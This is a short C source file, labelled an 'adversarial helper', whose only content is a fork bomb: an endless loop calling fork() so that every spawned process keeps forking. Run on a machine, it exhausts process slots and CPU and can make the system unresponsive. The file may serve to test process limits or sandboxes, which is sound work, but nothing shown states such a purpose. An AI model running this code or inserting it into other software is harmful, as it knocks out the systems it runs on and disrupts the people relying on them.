// Adversarial helper: forks forever; every process keeps forking.
#include <unistd.h>

int main() {
  while (true) {
    fork();
  }
}
